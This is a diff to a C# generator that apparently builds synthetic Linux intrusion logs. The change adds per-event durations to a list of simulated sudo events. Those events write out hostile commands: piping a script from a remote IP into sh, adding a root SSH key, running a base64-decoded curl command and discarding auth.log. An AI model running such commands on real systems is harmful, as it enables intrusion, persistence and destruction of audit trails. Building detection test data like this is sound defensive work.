@@ -72,17 +72,17 @@ internal static class LinuxIntrusion
         }
 
         string hidden = Convert.ToBase64String(Encoding.ASCII.GetBytes("curl -fsS https://telemetry.example.org/api/v2/hello?h=web-01 -o /tmp/.hello"));
-        (string Time, string Command, string What, string Evidence)[] risky =
+        (string Time, int Milliseconds, string Command, string What, string Evidence)[] risky =
         [
-            ("02:26:31", "/bin/sh -c curl -fsS http://203.0.113.58/files/init.sh | sh", "a script from the network into a shell", "http://203.0.113.58/files/init.sh | sh"),
-            ("02:28:02", "/usr/bin/tee -a /root/.ssh/authorized_keys", "a key for root", "/root/.ssh/authorized_keys"),
-            ("02:29:47", $"/bin/sh -c echo {hidden} | base64 -d | sh", "a command in base64", "/bin/sh -c echo Y3VybCAtZnNTIGh0dHBz"),
-            ("02:31:15", "/bin/bash", "a root shell", "COMMAND=/bin/bash"),
-            ("02:33:40", "/bin/mv /var/log/auth.log /dev/null", "the log is thrown away", "/bin/mv /var/log/auth.log /dev/null"),
+            ("02:26:31", 1904, "/bin/sh -c curl -fsS http://203.0.113.58/files/init.sh | sh", "a script from the network into a shell", "http://203.0.113.58/files/init.sh | sh"),
+            ("02:28:02", 41, "/usr/bin/tee -a /root/.ssh/authorized_keys", "a key for root", "/root/.ssh/authorized_keys"),
+            ("02:29:47", 733, $"/bin/sh -c echo {hidden} | base64 -d | sh", "a command in base64", "/bin/sh -c echo Y3VybCAtZnNTIGh0dHBz"),
+            ("02:31:15", 126_300, "/bin/bash", "a root shell", "COMMAND=/bin/bash"),
+            ("02:33:40", 27, "/bin/mv /var/log/auth.log /dev/null", "the log is thrown away", "/bin/mv /var/log/auth.log /dev/null"),
         ];
-        foreach ((string at, string command, string what, string evidence) in risky)
+        foreach ((string at, int milliseconds, string command, string what, string evidence) in risky)
         {
-            SyslogEvents.AddSudo(events, random, host, At("2026-03-04 " + at), "deploy", command, (what, evidence));
+            SyslogEvents.AddSudo(events, random, host, At("2026-03-04 " + at), "deploy", command, (what, evidence), TimeSpan.FromMilliseconds(milliseconds));
         }
     }
 
